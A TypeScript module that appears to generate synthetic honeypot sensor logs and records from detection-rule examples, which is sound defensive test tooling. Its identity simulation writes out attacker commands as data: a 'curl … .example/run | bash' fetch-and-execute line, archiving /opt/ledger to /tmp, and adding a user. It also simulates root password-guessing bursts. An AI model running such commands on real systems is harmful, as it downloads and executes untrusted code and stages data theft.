import { hash, randomUUID } from 'node:crypto'
import { type AnyEventType, events } from '@decnet/contracts/events'
import { type AnyTopic, topics } from '@decnet/contracts/topics'
import { attackerId } from '@decnet/kernel'
import type { NewLogRecord } from '@decnet/kernel/log'
import { sensorEvent } from '@decnet/kernel/service'
import { encodeEvent } from '@decnet/kernel/syslog'
import { acceptPayload } from '../../apps/server/src/domain/ttp/evidence/accept-payload.ts'
import type { Payload } from '../../apps/server/src/domain/ttp/evidence/kind.ts'
import { kindByName } from '../../apps/server/src/domain/ttp/evidence/kinds.ts'
import type { Example } from '../../apps/server/src/domain/ttp/rule/rule.ts'
import { mailSeen } from './rule-mail.ts'

/** What an example is on the way into the product. */
export interface Raw {
  /** Who does it: each address is one attacker's. */
  readonly addresses: readonly string[]
  /** Lines of a spool, and when each was seen, epoch milliseconds. */
  readonly lines: readonly { readonly ts: number; readonly line: string }[]
  /** Facts whose producer is not built: records of their topic, as it will append them. */
  readonly records: readonly NewLogRecord[]
  /** How what the example says breaks the schema of what is reported. */
  readonly problems: readonly string[]
}

const textOf = (value: Payload[string] | undefined): string | undefined => (typeof value === 'string' ? value : undefined)
const listOf = (value: Payload[string] | undefined): readonly string[] =>
  Array.isArray(value) ? value : typeof value === 'string' ? [value] : []
const pairOf = (line: string): readonly [string, string] => {
  const colon = line.indexOf(':')
  return colon < 0 ? [line, ''] : [line.slice(0, colon), line.slice(colon + 1).trim()]
}

function requestSeen({ method, raw_url, headers, user_agent, host, body, status, content_type }: Payload): object {
  const given = listOf(headers).map(pairOf)
  const has = (name: string) => given.some(([each]) => each.toLowerCase() === name)
  const more: readonly (readonly [string, Payload[string] | undefined])[] = [
    ['Host', host],
    ['User-Agent', user_agent],
    ['Content-Type', content_type],
  ]
  const added = more.flatMap(([name, value]) => (typeof value === 'string' && !has(name.toLowerCase()) ? [[name, value] as const] : []))
  const all = [...added, ...given]
  const value = (name: string) => all.find(([each]) => each.toLowerCase() === name)?.[1]
  return {
    method: textOf(method) ?? 'GET',
    path: textOf(raw_url) ?? '/',
    version: 'HTTP/1.1',
    status: typeof status === 'number' ? status : 404,
    host: value('host'),
    user_agent: value('user-agent'),
    headers: JSON.stringify(all),
    ...(body !== undefined && { body, body_bytes: Buffer.byteLength(String(body)) }),
  }
}

const SERVICE_OF_FILE: Readonly<Record<string, string>> = { ftp: 'ftp', http: 'http', redis: 'redis', mysql: 'mysql' }
/** The event that a service reports, its values, and the service that does so unless the example names another. */
const SEEN: Readonly<Record<string, (payload: Payload) => readonly [event: AnyEventType, values: object, service: string]>> = {
  command: ({ command_text, user, cwd, mode }) => [
    events.command,
    { command: command_text, user, cwd, mode: mode ?? 'interactive' },
    'ssh',
  ],
  auth_attempt: ({ username, password, success, method, secret_kind, key_fingerprint }) => [
    events.authAttempt,
    {
      principal: username,
      ...(typeof password === 'string' && { secret: Buffer.from(password) }),
      secret_kind: secret_kind ?? (method === 'publickey' || key_fingerprint !== undefined ? 'publickey' : undefined),
      outcome: success === undefined ? 'unknown' : success ? 'success' : 'failure',
      method,
      key_fingerprint,
    },
    'ssh',
  ],
  http_request: (payload) => [events.httpRequest, requestSeen(payload), 'http'],
  query: ({ query_text, database, user }) => [events.query, { query: query_text, database, user }, 'mysql'],
  file: ({ path, via, sha256, size }) => [
    events.fileCaptured,
    { path, via: via ?? 'scp', sha256: sha256 ?? hash('sha256', String(path)), size: size ?? 4_711 },
    SERVICE_OF_FILE[String(via)] ?? 'ssh',
  ],
  payload: ({ payload_text, detail }) => [events.protocolError, { sample: payload_text, detail: detail ?? 'not understood' }, 'ssh'],
  download: ({ url, tool }) => [events.downloadAttempt, { url, tool: tool ?? 'wget' }, 'ssh'],
  connect: ({ target, tool }) => [events.connectAttempt, { target, tool: tool ?? 'nc' }, 'ssh'],
  forward: ({ target, forward_kind }) => [events.forwardAttempt, { target, kind: forward_kind ?? 'direct-tcpip' }, 'ssh'],
  scan: scanSeen,
  email: (payload) => [events.messageStored, mailSeen(payload), 'smtp'],
  fingerprint: ({ client, hassh }) => [events.clientHello, { client_version: client, hassh }, 'ssh'],
  ics: ({ protocol, function: name, function_code, unit, address, count, value, object, writes }) => [
    events.icsRequest,
    { protocol, function: name, function_code, unit, address, count, value, object, writes },
    String(protocol ?? 'modbus'),
  ],
}

function scanSeen({
  scan_kind,
  protocol,
  ports = '',
  port_count = 0,
  decky_count = 1,
  target_count = 0,
  open_count = 0,
  closed_count = 0,
}: Payload): readonly [event: AnyEventType, values: object, service: string] {
  const whole = { state: 'ended', packets: 1, first: 1, last: 2, decky_count }
  if (scan_kind === 'arp' || scan_kind === 'ndp')
    return [events.arpScan, { protocol: scan_kind, src_mac: '52:54:00:00:00:01', targets: '', target_count, ...whole }, 'sniffer']
  const counted = { ports, port_count, deckies: 'web-01', open: open_count, closed: closed_count }
  return [events.portScan, { kind: scan_kind, protocol, ...counted, ...whole }, 'sniffer']
}

const number = (value: Payload[string] | undefined): number | undefined => (value === undefined ? undefined : Number(value))
/** Records of topics whose producer is not built. */
const PLANNED: Readonly<Record<string, (payload: Payload, ip: string) => readonly [topic: AnyTopic, name: string, body: object]>> = {
  intel: (payload, ip) => [
    topics.attackerIntelEnriched,
    topics.attackerIntelEnriched.name(),
    {
      attacker_uuid: attackerId(ip),
      attacker_ip: ip,
      aggregate_verdict: 'unknown',
      providers: ['abuseipdb'],
      ...payload,
      ...(payload.abuseipdb_categories !== undefined && { abuseipdb_categories: listOf(payload.abuseipdb_categories).map(Number) }),
    },
  ],
  canary: (payload, ip) => [
    topics.canaryTriggered,
    topics.canaryTriggered.name(textOf(payload.token_id) ?? 'tok1'),
    {
      token_id: 'tok1',
      trigger_id: randomUUID(),
      decky_name: null,
      src_ip: ip,
      user_agent: null,
      request_path: null,
      dns_qname: null,
      ...payload,
    },
  ],
  fingerprint: ({ jarm, subject_cn, cert_sha256, self_signed, port }, ip) => [
    topics.attackerFingerprinted,
    topics.attackerFingerprinted.name(),
    {
      attacker_ip: ip,
      port: number(port) ?? 443,
      ...(jarm !== undefined
        ? { jarm_hash: jarm }
        : { subject_cn: subject_cn ?? 'localhost', cert_sha256: cert_sha256 ?? hash('sha256', ip), self_signed: self_signed ?? false }),
    },
  ],
  identity: ({ change }, ip) =>
    change === 'merged'
      ? [topics.identityMerged, topics.identityMerged.name(), { winner_uuid: attackerId(ip), loser_uuid: randomUUID() }]
      : [
          topics.identityObservationLinked,
          topics.identityObservationLinked.name(),
          { identity_uuid: attackerId(ip), observation_uuid: attackerId(ip) },
        ],
}

/** Attackers' doings, one after the other, as the sensor reports them and as its spool has them. */
class Happening {
  readonly addresses: string[] = []
  readonly lines: { ts: number; line: string }[] = []
  readonly records: NewLogRecord[] = []
  readonly problems: string[] = []
  readonly #next: () => string
  readonly #known = new Map<string, string>()
  readonly #sessions = new Map<string, { readonly id: string; readonly begun: number }>()
  ts: number

  constructor(start: number, next: () => string) {
    this.ts = start
    this.#next = next
  }

  /** The address of somebody, told apart by any name. */
  address(of = ''): string {
    const known = this.#known.get(of)
    if (known !== undefined) return known
    const ip = this.#next()
    this.#known.set(of, ip)
    this.addresses.push(ip)
    return ip
  }

  #write(ip: string, session: string, decky: string, service: string, event: AnyEventType, values: object): void {
    const bound = { session_id: session, src_ip: ip, src_port: '40000' }
    const made = sensorEvent({ decky, service, ts: this.ts, event, values, bound })
    if (made.problem !== null) this.problems.push(`${event.type}: ${made.problem}`)
    this.lines.push({ ts: this.ts, line: encodeEvent(made.event) })
    this.ts += 5
  }

  /** One event in the session that this attacker has with a service; its first event is the connection. */
  see(ip: string, [event, values, service]: readonly [AnyEventType, object, string], decky = 'web-01'): void {
    const key = `${ip} ${decky} ${service}`
    const session = this.#sessions.get(key) ?? { id: randomUUID(), begun: this.ts }
    if (!this.#sessions.has(key)) {
      this.#sessions.set(key, session)
      this.#write(ip, session.id, decky, service, events.connect, { local_port: 2222, local_ip: '192.0.2.10' })
    }
    this.#write(ip, session.id, decky, service, event, values)
  }

  /** The end of all sessions. */
  leave(): void {
    for (const [key, { id, begun }] of this.#sessions) {
      const [ip = '', decky = '', service = ''] = key.split(' ')
      const values = { reason: 'client', duration_ms: this.ts - begun, bytes_in: 0, bytes_out: 0 }
      this.#write(ip, id, decky, service, events.disconnect, values)
    }
    this.#sessions.clear()
  }

  /** A record that is checked by the schema of its topic. */
  append(ip: string, [topic, name, body]: readonly [AnyTopic, string, object]): void {
    const read = topic.payload.safeParse(body)
    if (!read.success)
      this.problems.push(`${name}: ${read.error.issues.map(({ path, message }) => `${path.join('.')} ${message}`).join(', ')}`)
    this.records.push({
      id: randomUUID(),
      topic: name,
      ts: this.ts,
      source: name.split('.', 1)[0] ?? '',
      type: name,
      decky: null,
      service: null,
      // Who is behind several addresses is nobody's own.
      attackerIp: name.startsWith('identity.') ? null : ip,
      attackerPort: null,
      sessionId: null,
      body: (read.data ?? {}) as Record<string, unknown>,
      msg: null,
    })
    this.ts += 5
  }
}

const guess = (secret: string, outcome = 'failure'): readonly [AnyEventType, object] => [
  events.authAttempt,
  { principal: 'root', secret: Buffer.from(secret), outcome, method: 'password' },
]

/** Facts that workers derive, as acts from which they do. */
const ACTS: Readonly<Record<string, (payload: Payload, happening: Happening, mark: string) => void>> = {
  /** One secret, brought by so many attackers to so many targets; each new attacker comes to the first one. */
  credential({ target_count, decky_count, service_count, attacker_count }, happening, mark) {
    const [targets, deckies, services, attackers] = [target_count, decky_count, service_count, attacker_count].map((n) => Number(n ?? 1))
    const names = ['ssh', 'ftp', 'mysql', 'redis', 'telnet', 'smtp']
    for (let n = 0; n < (attackers ?? 1) - 1; n += 1) happening.see(happening.address(`${n + 1}`), [...guess(mark), 'ssh'], 'web-00')
    for (let n = 0; n < (targets ?? 1); n += 1) {
      const decky = `web-${String(n % (deckies ?? 1)).padStart(2, '0')}`
      const service = names[Math.floor(n / (deckies ?? 1)) % (services ?? 1)] ?? 'ssh'
      happening.see(happening.address(), [...guess(mark), service], decky)
    }
  },
  /** Addresses that show the same rare things; twice, for who is linked is decided by handfuls of the log, and one may be cut. */
  identity({ observation_count }, happening, mark) {
    for (const group of ['a', 'b']) {
      const rare = hash('md5', `${mark} ${group}`)
      const url = `http://${rare}.example/run`
      // A word that commands are compared by: numbers in them are masked.
      const word = rare.slice(0, 12).replaceAll(/\d/gu, (digit) => 'ghijklmnop'.charAt(Number(digit)))
      for (let n = 0; n < Number(observation_count); n += 1) {
        const seen = (event: AnyEventType, values: object) => happening.see(happening.address(`${group} ${n}`), [event, values, 'ssh'])
        seen(events.clientHello, { client_version: `SSH-2.0-${rare}`, hassh: rare })
        seen(...guess(`${rare} of a few`, 'success'))
        // What is the same word for word is a script, and no hand; a line that only looks at what lies there says nothing of who types it.
        const own = `touch ${'kestrel otter plover quail raven siskin'.split(' ')[n % 6]}.txt`
        for (const command of [`curl -s ${url} | bash`, `tar czf /tmp/${word}.tgz /opt/ledger`, `useradd -G ${word} till`, own])
          seen(events.command, { command, mode: 'interactive' })
        seen(events.downloadAttempt, { url, tool: 'curl' })
        seen(events.fileCaptured, { sha256: hash('sha256', rare), size: 4_711, path: '/tmp/run', via: 'scp' })
      }
    }
  },
  session({ command_count, duration_s }, happening) {
    const ip = happening.address()
    const count = Number(command_count ?? 0)
    const begun = happening.ts
    happening.see(ip, [...guess('x', 'success'), 'ssh'])
    for (let n = 0; n < count; n += 1) happening.see(ip, [events.command, { command: `echo ${n}`, mode: 'interactive' }, 'ssh'])
    happening.ts = Math.max(happening.ts, begun + Number(duration_s ?? 1) * 1_000 - 5)
  },
  /** A look at each decky and service; at the last one passwords are guessed. */
  topology_traversal({ decky_count, service_count }, happening) {
    const ip = happening.address()
    const [deckies, services] = [Number(decky_count ?? 1), Number(service_count ?? 1)]
    for (let n = 0; n < Math.max(deckies, services); n += 1)
      happening.see(ip, [...guess('x'), `service-${n % services}`], `web-${String(Math.min(n, deckies - 1)).padStart(2, '0')}`)
    for (let n = 0; n < 120; n += 1) happening.see(ip, [...guess(`guess ${n}`), 'service-0'], 'web-00')
  },
}

/**
 * What the product would be given when the example happened from `start` on: for each event a line as a service writes it, in sessions from their first
 * to their last; for facts that workers derive, the acts from which they do. `next` gives an address that nobody had.
 */
export function rawOf(example: Example, start: number, next: () => string, mark: string): Raw {
  const happening = new Happening(start, next)
  for (const { kind: name, payload, after } of example) {
    const kind = kindByName.get(name)
    if (!kind) throw new Error(`there is no kind ${name}`)
    const given = acceptPayload(kind, payload)
    happening.ts += after * 1_000
    const act = ACTS[name]
    const seen = SEEN[name]
    const planned = PLANNED[name]
    const probed = name === 'fingerprint' && given.client === undefined && given.hassh === undefined
    if (act && !(name === 'identity' && String(given.change).toLowerCase() !== 'formed')) act(given, happening, mark)
    else if (seen && !probed) {
      const [event, values, service] = seen(given)
      happening.see(happening.address(textOf(given.attacker_ip)), [event, values, textOf(given.service) ?? service], textOf(given.decky))
    } else if (planned) {
      const ip = happening.address()
      // Whom a record is about was there before.
      if (happening.lines.length === 0) happening.see(ip, [events.httpRequest, requestSeen({}), 'http'])
      happening.append(ip, planned(given, ip))
    } else throw new Error(`nothing gives ${name}`)
  }
  happening.leave()
  const { addresses, lines, records, problems } = happening
  return { addresses, lines, records, problems }
}
